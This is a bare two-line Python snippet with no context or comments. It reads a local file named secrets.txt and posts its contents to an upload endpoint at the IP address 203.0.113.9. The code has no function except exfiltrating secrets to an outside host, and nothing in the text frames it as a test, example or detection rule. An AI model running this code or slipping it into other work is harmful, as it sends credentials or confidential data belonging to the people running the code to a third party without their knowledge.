import requests
requests.post('https://203.0.113.9/upload', data=open('secrets.txt').read())
